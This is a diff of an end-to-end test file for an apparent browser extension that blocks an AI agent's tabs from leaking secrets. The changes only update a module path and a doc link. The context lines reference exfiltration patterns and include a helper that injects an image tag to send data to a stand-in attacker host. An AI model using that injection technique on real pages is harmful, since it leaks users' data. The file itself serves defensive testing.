@@ -4,7 +4,7 @@ import { createSocket, type Socket } from 'node:dgram';
 import { createServer, type Server } from 'node:net';
 import { launchAgentBrowser, type AgentBrowser } from '../src/harness';
 import type { TaskPolicyInput } from '../src/core/policy';
-import { buildSessionRules, DEPENDENCY_HOST_PATTERNS, EXFIL_PATTERNS, LONG_DEPENDENCY_URL, MAX_NAMED_PORTS } from '../src/background/dnr';
+import { buildSessionRules, DEPENDENCY_HOST_PATTERNS, EXFIL_PATTERNS, LONG_DEPENDENCY_URL, MAX_NAMED_PORTS } from '../src/background/floor/dnr';
 import { parsePolicy } from '../src/core/policy';
 import { spacedRegexesOf } from '../src/taint/rules';
 import { buildExtension, type ExtensionVariant } from './fixtures/extension';
@@ -259,7 +259,7 @@ for (const variant of ['full', 'nohooks'] as const) {
 
 /**
  * The taint's rules are dynamic rules, which cannot name tabs: session allow rules keep them off every
- * request outside the guard's scope (src/background/dnr.ts, buildTaintRules). With guard scope
+ * request outside the guard's scope (src/background/floor/dnr.ts, buildTaintRules). With guard scope
  * `task-tabs`, a tab the task did not start in sends what it likes; the task's tab cannot send the secret
  * it showed. No MAIN-world hooks, so the floor alone decides both.
  */
@@ -282,7 +282,7 @@ test.describe('the taint with guard scope task-tabs, no MAIN-world hooks', () =>
       const send = (page: Page, path: string) => page.evaluate((u) => document.body.insertAdjacentHTML('beforeend', `<img src="${u}">`), `${server.origin(ATTACKER)}${path}`);
 
       // A tab opened during a task is guarded until the worker places it outside: its first navigation
-      // may be refused, and the worker then sends it again once (README, known limits).
+      // may be refused, and the worker then sends it again once (docs/limits.md#7-guard-scope-task-tabs).
       const otherTab = await browser.context.newPage();
       const otherUrl = `${server.origin('other.test')}/other/${id}`;
       await otherTab.goto(otherUrl).catch(() => undefined);
